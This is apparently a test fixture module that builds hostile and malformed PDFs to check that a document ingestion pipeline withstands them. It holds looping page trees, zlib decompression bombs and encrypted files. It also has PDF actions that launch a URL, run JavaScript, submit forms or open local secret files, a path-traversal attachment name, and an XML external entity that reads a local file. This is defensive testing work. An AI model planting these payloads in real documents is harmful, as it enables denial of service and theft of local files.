"""PDF files that loop, blow up, are cut off, locked, or hold what nobody may open."""

import io
import zlib
from collections.abc import Iterator, Sequence

from pypdf import PdfWriter

from tests.ingest.hostile.case import CANARY, Hostile, Place, fixed
from tests.ingest.made_pdf import numbered, pdf, raw_pdf, words

_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_DAMAGED = "damaged|no readable page"
_NO_PAGE = "no readable page"
_SHOWN = words(72, 700, "shown")


def pdfs(place: Place) -> Iterator[Hostile]:
    """Yield the files."""
    yield from _trees()
    yield from _streams()
    yield from _locked()
    yield from _pages()
    yield from _reaching(place)
    yield from _wrecks()


def _page(content: int = 4, more: bytes = b"") -> bytes:
    return (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R "
        b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica"
        b" >> >> >> %b >>" % (content, more)
    )


def _stream(data: bytes, head: bytes = b"") -> bytes:
    return b"<< /Length %d %b >>\nstream\n" % (len(data), head) + data + b"\nendstream"


def _one(*more: bytes, page: bytes = b"", content: bytes = _SHOWN.encode()) -> bytes:
    """Return a PDF of one page and further objects, numbered from 5."""
    return numbered([_CATALOG, _PAGES, _page(more=page), _stream(content), *more])


def _trees() -> Iterator[Hostile]:
    loop = b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"
    yield Hostile("loop.pdf", fixed(numbered([_CATALOG, loop])), _NO_PAGE)
    two = b"<< /Type /Pages /Kids [3 0 R] /Count 9 /Parent 3 0 R >>"
    back = b"<< /Type /Pages /Kids [2 0 R] /Count 9 /Parent 2 0 R >>"
    yield Hostile("rings.pdf", fixed(numbered([_CATALOG, two, back])), _NO_PAGE)
    deep = [
        b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % (n + 3) for n in range(5_000)
    ]
    yield Hostile("deep.pdf", fixed(numbered([_CATALOG, *deep])), _NO_PAGE)
    none = b"<< /Type /Pages /Kids [] /Count 0 >>"
    yield Hostile("none.pdf", fixed(numbered([_CATALOG, none])), _DAMAGED)
    claimed = b"<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>"
    yield Hostile(
        "claimed.pdf",
        fixed(numbered([_CATALOG, claimed, _page(), _stream(_SHOWN.encode())])),
        shown="shown",
    )
    many = [b"3 0 R"] * 5_001
    kids = b"<< /Type /Pages /Kids [%b] /Count 5001 >>" % b" ".join(many)
    yield Hostile(
        "pages.pdf",
        fixed(numbered([_CATALOG, kids, _page(), _stream(_SHOWN.encode())])),
        "more than 5,000",
    )
    whole = raw_pdf([_SHOWN])
    for name, previous in (("self", b"9"), ("past", b"99999999"), ("below", b"-1")):
        tail = whole.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev " + previous)
        yield Hostile(f"previous-{name}.pdf", fixed(tail), shown="shown")
    circle = whole.rpartition(b"startxref")[2].split()[0]
    tail = whole.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev " + circle)
    yield Hostile("previous-own.pdf", fixed(tail), shown="shown")
    itself = numbered([b"1 0 R", _PAGES])
    yield Hostile("itself.pdf", fixed(itself), _DAMAGED)
    nested = b"[" * 60_000 + b"]" * 60_000
    yield Hostile("nested.pdf", fixed(_one(nested, page=b"/X 5 0 R")), shown="shown")
    outline = [
        _CATALOG[:-2] + b"/Outlines 5 0 R >>",
        *(_PAGES, _page(), _stream(_SHOWN.encode())),
        b"<< /First 6 0 R /Last 6 0 R /Count 1 >>",
        b"<< /Title (a) /Parent 5 0 R /Next 6 0 R /First 5 0 R /Dest [3 0 R /Fit] >>",
    ]
    yield Hostile("outline.pdf", fixed(numbered(outline)), shown="shown")


def _streams() -> Iterator[Hostile]:
    flate = b"/Filter /FlateDecode"
    bomb = b"BT " + bytes(1) + b" " * 200_000_000
    yield Hostile(
        "bomb.pdf", lambda: _bombed(zlib.compress(bomb)), _ANY_END, costly=True
    )
    twice = zlib.compress(zlib.compress(b" " * 400_000_000, 9), 9)
    yield Hostile(
        "bomb-twice.pdf",
        lambda: _bombed(twice, b"/Filter [/FlateDecode /FlateDecode]"),
        _ANY_END,
        costly=True,
    )
    chain = b"/Filter [" + b"/ASCIIHexDecode " * 2_000 + b"]"
    yield Hostile("filters.pdf", fixed(_bombed(b"20>" * 1_000, chain)), _NO_TEXT)
    mapped = "".join(f"<{n:04x}> <{n:04x}>\n" for n in range(60_000))
    unicode_ = zlib.compress(
        f"1 begincodespacerange <0000> <ffff> endcodespacerange\n"
        f"60000 beginbfchar\n{mapped * 5}endbfchar".encode()
    )
    font = (
        b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type0 /BaseFont /X "
        b"/Encoding /Identity-H /ToUnicode 5 0 R /DescendantFonts [<< /Type /Font "
        b"/Subtype /CIDFontType2 /BaseFont /X /CIDSystemInfo << >> >>] >> >> >>"
    )
    yield Hostile(
        "unicode.pdf",
        fixed(
            _one(
                _stream(unicode_, flate), page=font, content=b"BT /F1 9 Tf <0073> Tj ET"
            )
        ),
        shown="s",
    )
    wide = b"/ObjStm /N 100000000 /First 10 " + flate
    yield Hostile(
        "objects.pdf",
        fixed(_one(_stream(zlib.compress(b"9 0 " * 200_000), b"/Type " + wide))),
        shown="shown",
    )
    for kind in (b"JBIG2Decode", b"JPXDecode", b"DCTDecode", b"CCITTFaxDecode"):
        head = (
            b"/Type /XObject /Subtype /Image /Width 90000 /Height 90000 "
            b"/BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /" + kind
        )
        image = b"/Resources << /XObject << /I 5 0 R >> >>"
        yield Hostile(
            f"image-{kind.decode()}.pdf",
            fixed(_one(_stream(b"\xff\x4f\xff\x51" * 999, head), page=image,
                       content=b"q 500 0 0 500 0 0 cm /I Do Q")),
            _NO_TEXT,
        )  # fmt: skip
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /I 5 0 R >> >>"
    yield Hostile(
        "form.pdf",
        fixed(_one(_stream(b"/I Do /I Do", form),
                   page=b"/Resources << /XObject << /I 5 0 R >> >>", content=b"/I Do")),
        _CRASH,
        costly=True,
    )  # fmt: skip
    drawing = "".join(f"{n % 500} {n % 800} m 9 9 l S\n" for n in range(60_000))
    yield Hostile(
        "drawing.pdf", fixed(raw_pdf([_SHOWN + drawing])), shown="shown", costly=True
    )
    deep = "q " * 100_000 + _SHOWN
    yield Hostile("saved.pdf", fixed(raw_pdf([deep])), shown="shown")


_NO_TEXT = "no text layer"
_UNSEEN = "all text of the PDF is invisible"
_CRASH = "no text layer|the parser crashed|took longer"
_ANY_END = "no text layer|MB of memory|took longer"


def _bombed(data: bytes, head: bytes = b"/Filter /FlateDecode") -> bytes:
    return numbered([_CATALOG, _PAGES, _page(), _stream(data, head)])


def _locked() -> Iterator[Hostile]:
    for algorithm in ("RC4-40", "RC4-128", "AES-128", "AES-256-R5", "AES-256"):
        for user, reason in (("x", "password-protected"), ("", "")):
            writer = PdfWriter(
                clone_from=io.BytesIO(raw_pdf([words(72, 700, "shown")]))
            )
            writer.encrypt(user, "owner", algorithm=algorithm)
            written = io.BytesIO()
            writer.write(written)
            who = "user" if user else "owner"
            shown = "" if user else "shown"
            yield Hostile(
                f"{who}-{algorithm}.pdf", fixed(written.getvalue()), reason, shown
            )
    odd = raw_pdf([_SHOWN]).replace(
        b"/Root 1 0 R", b"/Root 1 0 R /Encrypt << /Filter /Foo /V 99 >>"
    )
    yield Hostile("security.pdf", fixed(odd), "protected|damaged")


def _pages() -> Iterator[Hostile]:
    for name, box, reason in (
        ("huge", "0 0 100000 100000", ""),
        ("endless", "0 0 1e38 1e38", _UNSEEN),
        ("flat", "0 0 0 0", _UNSEEN),
        ("nan", "0 0 nan inf", _UNSEEN),
    ):
        data = raw_pdf([_SHOWN], box=box)
        shown = "" if reason else "shown"
        yield Hostile(f"box-{name}.pdf", fixed(data), reason, shown)
    large = raw_pdf([words(72, 700, "shown", size=1e9) + _SHOWN])
    yield Hostile("size.pdf", fixed(large), _UNSEEN)


def _reaching(place: Place) -> Iterator[Hostile]:
    script = f"app.launchURL('{place.address}'); this.exportDataObject('a')"
    actions = (
        (b"JavaScript", f"/JS ({script})"),
        (b"URI", f"/URI ({place.address})"),
        (b"Launch", f"/F ({place.secret})"),
        (b"SubmitForm", f"/F ({place.address})"),
        (b"GoToR", f"/F ({place.secret}) /D [0 /Fit]"),
        (b"ImportData", f"/F ({place.secret})"),
    )
    for kind, told in actions:
        action = b"<< /S /%b %b >>" % (kind, told.encode())
        opened = _CATALOG[:-2] + b"/OpenAction %b /AA << /WC %b >> >>" % (
            action,
            action,
        )
        objects = [opened, _PAGES, _page(), _stream(_SHOWN.encode())]
        name = f"action-{kind.decode()}.pdf"
        yield Hostile(name, fixed(numbered(objects)), shown="shown")
    outside = f"/F ({place.secret}) /FFilter /FlateDecode".encode()
    data = numbered([_CATALOG, _PAGES, _page(), _stream(b"", outside)])
    yield Hostile("stream-outside.pdf", fixed(data), _NO_TEXT)
    writer = PdfWriter(clone_from=io.BytesIO(raw_pdf([_SHOWN])))
    writer.add_attachment("../../a.docx", CANARY.encode())
    yield Hostile("attached.pdf", lambda: _saved(writer), shown="shown")
    laughs = f'<!DOCTYPE d [<!ENTITY x SYSTEM "file://{place.secret}">]><d>&x;</d>'
    catalog = _CATALOG[:-2] + b"/Metadata 5 0 R /AcroForm << /XFA 5 0 R >> >>"
    xmp = _stream(laughs.encode(), b"/Type /Metadata /Subtype /XML")
    objects = [catalog, _PAGES, _page(), _stream(_SHOWN.encode()), xmp]
    yield Hostile("xmp.pdf", fixed(numbered(objects)), shown="shown")


def _saved(writer: PdfWriter) -> bytes:
    written = io.BytesIO()
    writer.write(written)
    return written.getvalue()


def _wrecks() -> Iterator[Hostile]:
    pages: Sequence[str] = [_SHOWN] * 5
    whole = pdf(pages, title="T")
    for percent in range(1, 100, 3):
        cut = whole[: len(whole) * percent // 100]
        yield Hostile(f"cut-{percent}.pdf", fixed(cut), _CUT)
    yield Hostile("magic.pdf", fixed(b"%PDF-1.7\n" + b"\xff" * 5_000), _DAMAGED)
    yield Hostile("head.pdf", fixed(b"%PDF-"), _DAMAGED)
    middle = len(whole) // 2
    torn = whole[:middle] + bytes(500) + whole[middle + 500 :]
    yield Hostile("torn.pdf", fixed(torn), shown="shown")


_CUT = "damaged|no readable page|no text layer"
